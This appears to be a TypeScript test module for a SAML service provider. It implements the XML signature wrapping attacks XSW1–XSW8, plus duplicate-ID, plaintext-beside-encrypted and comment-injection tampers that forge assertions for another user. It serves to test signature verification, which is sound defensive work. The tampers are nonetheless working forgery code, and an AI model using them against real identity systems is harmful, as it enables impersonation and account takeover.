import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { randomUUID } from 'node:crypto';

/**
 * TEST ONLY: XML signature wrapping, the attacks of Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (USENIX Security 2012), XSW1 to XSW8, on an answer the attacker holds
 * (their own sign-in's): the signed parts stay where a signature check would find them, and an
 * evil assertion (another person, the leader's privilege) goes where a careless reader looks.
 */

const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
export const EVIL_UUID = 'urn:uuid:00000000-0000-4000-8000-0000000e7117';

type Tamper = (xml: string) => string;

function edit(change: (doc: Document, response: Element, assertion: Element) => void): Tamper {
  return (xml) => {
    const doc = new DOMParser().parseFromString(xml, 'text/xml');
    const response = doc.documentElement;
    const assertion = doc.getElementsByTagNameNS(ASSERTION, 'Assertion')[0];
    change(doc, response, assertion);
    return new XMLSerializer().serializeToString(doc);
  };
}

const child = (parent: Element, ns: string, name: string) => Array.from(parent.childNodes).find((n) => (n as Element).localName === name && (n as Element).namespaceURI === ns) as Element | undefined;

/** The attacker's assertion: the signed one's copy, about someone else, with a new ID and no signature. */
function evil(doc: Document, assertion: Element, keepSignature = false): Element {
  const copy = assertion.cloneNode(true) as Element;
  copy.setAttribute('ID', `_${randomUUID()}`);
  const signature = child(copy, DSIG, 'Signature');
  if (signature && !keepSignature) copy.removeChild(signature);
  for (const nameId of Array.from(copy.getElementsByTagNameNS(ASSERTION, 'NameID'))) nameId.textContent = EVIL_UUID;
  for (const attribute of Array.from(copy.getElementsByTagNameNS(ASSERTION, 'Attribute'))) {
    if (attribute.getAttribute('Name')?.endsWith('/uuid/persistent')) attribute.getElementsByTagNameNS(ASSERTION, 'AttributeValue')[0].textContent = EVIL_UUID;
  }
  return copy;
}

function object(doc: Document, content: Node): Element {
  const element = doc.createElementNS(DSIG, 'ds:Object');
  element.appendChild(content);
  return element;
}

/** The Response's own signature moved into an evil Response (XSW1: the original inside the signature's Object; XSW2: beside it). */
function wrappedResponse(placeOriginal: 'inObject' | 'beforeSignature'): Tamper {
  return edit((doc, response, assertion) => {
    const original = response.cloneNode(true) as Element;
    const signature = child(response, DSIG, 'Signature') as Element;
    response.setAttribute('ID', `_${randomUUID()}`);
    response.replaceChild(evil(doc, assertion), assertion);
    if (placeOriginal === 'inObject') signature.appendChild(object(doc, original));
    else response.insertBefore(original, signature);
  });
}

export const XSW: Record<string, Tamper> = {
  'XSW1: an evil Response around the signed one, which sits in the signature\'s Object': wrappedResponse('inObject'),
  'XSW2: an evil Response with the signed one detached before the signature': wrappedResponse('beforeSignature'),
  'XSW3: an unsigned evil assertion before the signed one': edit((doc, response, assertion) => {
    response.insertBefore(evil(doc, assertion), assertion);
  }),
  'XSW4: an evil assertion wrapping the signed one': edit((doc, response, assertion) => {
    const wrapper = evil(doc, assertion);
    response.replaceChild(wrapper, assertion);
    wrapper.appendChild(assertion);
  }),
  'XSW5: the evil assertion carries the signature, the signed one is appended at the end': edit((doc, response, assertion) => {
    const copy = evil(doc, assertion, true);
    const signature = child(assertion, DSIG, 'Signature') as Element;
    assertion.removeChild(signature);
    response.replaceChild(copy, assertion);
    response.appendChild(assertion);
  }),
  'XSW6: the evil assertion carries the signature, the signed one inside its Object': edit((doc, response, assertion) => {
    const copy = evil(doc, assertion, true);
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(child(original, DSIG, 'Signature') as Element);
    response.replaceChild(copy, assertion);
    (child(copy, DSIG, 'Signature') as Element).appendChild(object(doc, original));
  }),
  'XSW7: the signed assertion hidden in an Extensions element, the evil one in its place': edit((doc, response, assertion) => {
    const extensions = doc.createElementNS(PROTOCOL, 'samlp:Extensions');
    response.replaceChild(evil(doc, assertion), assertion);
    response.insertBefore(extensions, child(response, PROTOCOL, 'Status') as Element);
    extensions.appendChild(assertion);
  }),
  'XSW8: the evil assertion\'s signature holds the signed assertion, stripped of its signature, in an Object': edit((doc, response, assertion) => {
    const copy = evil(doc, assertion, true);
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(child(original, DSIG, 'Signature') as Element);
    (child(copy, DSIG, 'Signature') as Element).appendChild(object(doc, original));
    response.replaceChild(copy, assertion);
  }),
};

/** An unsigned evil assertion in clear beside a (valid) encrypted one. */
export const PLAIN_BESIDE_ENCRYPTED: Tamper = edit((doc, response) => {
  const encrypted = response.getElementsByTagNameNS(ASSERTION, 'EncryptedAssertion')[0];
  const assertion = doc.createElementNS(ASSERTION, 'saml:Assertion');
  assertion.setAttribute('ID', `_${randomUUID()}`);
  assertion.setAttribute('Version', '2.0');
  const nameId = doc.createElementNS(ASSERTION, 'saml:NameID');
  nameId.textContent = EVIL_UUID;
  assertion.appendChild(nameId);
  response.insertBefore(assertion, encrypted);
});

/** Another element carrying the signed assertion's ID, so that a reference could resolve to it. */
export const DUPLICATE_ID: Tamper = edit((doc, response, assertion) => {
  const extensions = doc.createElementNS(PROTOCOL, 'samlp:Extensions');
  const decoy = doc.createElementNS('urn:example:decoy', 'd:Decoy');
  decoy.setAttribute('ID', assertion.getAttribute('ID') as string);
  extensions.appendChild(decoy);
  response.insertBefore(extensions, child(response, PROTOCOL, 'Status') as Element);
});

/**
 * A comment in the signed NameID and persistent uuid (after signing: c14n without comments drops
 * it, so the signature still verifies), so a reader that stops at the comment sees a prefix.
 */
export function commentIn(value: string, at: number): Tamper {
  return (xml) => xml.split(`>${value}<`).join(`>${value.slice(0, at)}<!---->${value.slice(at)}<`);
}
